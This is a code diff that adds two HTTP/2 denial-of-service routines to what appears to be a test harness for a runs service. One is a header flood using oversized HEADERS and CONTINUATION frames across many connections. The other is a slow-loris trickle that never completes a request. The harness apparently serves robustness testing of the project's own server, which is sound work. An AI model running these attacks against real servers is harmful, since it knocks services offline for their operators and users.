@@ -3,6 +3,7 @@
 Bounded in count and time. Each prints what became of it, as JSON.
 """
 
+import contextlib
 import json
 import os
 import select
@@ -17,12 +18,15 @@ from playbooks.runs.v1.runs_service_pb2 import CreateRunRequest
 
 from tests.support.http2 import (
     CANCEL,
+    CONTINUATION,
     DATA,
+    END_HEADERS,
     END_STREAM,
     HEADERS,
     RST_STREAM,
     Connection,
     frame,
+    headers,
     message,
     zipped,
 )
@@ -69,6 +73,43 @@ def reset(target: str, method: str, seconds: float, rate: int, *fields: tuple[st
     return {"opened": opened, "hung_up": 0}
 
 
+def flood_headers(target: str, seconds: float, connections: int, rate: int) -> dict[str, int]:
+    """Open streams with header blocks of 100 kB, in HEADERS and CONTINUATION: `rate` bytes a second in all."""
+    os.nice(10)  # in the field its processor is another machine's
+    part = headers(*((f"x-{number}", "y" * 100) for number in range(100)))
+    sent = hung_up = 0
+    print("sending", flush=True)
+    with contextlib.ExitStack() as open_ones:
+        flooded = [open_ones.enter_context(Connection(target)) for _ in range(connections)]
+        began = time.monotonic()
+        while flooded and (passed := time.monotonic() - began) < seconds:
+            for connection in list(flooded):
+                stream, _ = connection.call(CREATE_RUN)
+                more = frame(CONTINUATION, 0, stream, part) * 8 + frame(CONTINUATION, END_HEADERS, stream, part)
+                try:
+                    connection.send(frame(HEADERS, END_STREAM, stream, part) + more)
+                    sent += 10 * len(part)
+                except OSError:
+                    hung_up += 1
+                    flooded.remove(connection)
+            time.sleep(max(0.0, sent / rate - passed))
+    return {"sent": sent, "hung_up": hung_up}
+
+
+def trickle(target: str, seconds: float, connections: int) -> dict[str, int]:
+    """Hold so many connections open by a byte of a call's headers now and then (slow loris)."""
+    print("sending", flush=True)
+    with contextlib.ExitStack() as open_ones:
+        slow = [open_ones.enter_context(Connection(target)) for _ in range(connections)]
+        _, opening = slow[0].call(CREATE_RUN)
+        for byte in opening[:-1]:  # never the last one
+            for connection in slow:
+                with contextlib.suppress(OSError):  # the server may have hung up
+                    connection.send(bytes([byte]))
+            time.sleep(seconds / len(opening))
+    return {"connections": len(slow)}
+
+
 def create(target: str, project: str, callers: int, token: str) -> dict[str, int]:
     """Create runs with so many calls in flight, the next one at each answer, until a line comes in."""
     os.nice(10)  # in the field its processor is another machine's
@@ -109,6 +150,10 @@ ATTACKS: dict[str, Callable[..., dict[str, int]]] = {
         target, method, int(streams), message(b"x" * (int(announced) - 1), announced=int(announced)), *_bearer(token)
     ),
     "creates": lambda target, project, callers, token: create(target, project, int(callers), token),
+    "header_flood": lambda target, seconds, connections, rate: flood_headers(
+        target, float(seconds), int(connections), int(rate)
+    ),
+    "trickle": lambda target, seconds, connections: trickle(target, float(seconds), int(connections)),
     "reset": lambda target, method, seconds, rate, token="": reset(
         target, method, float(seconds), int(rate), *_bearer(token)
     ),
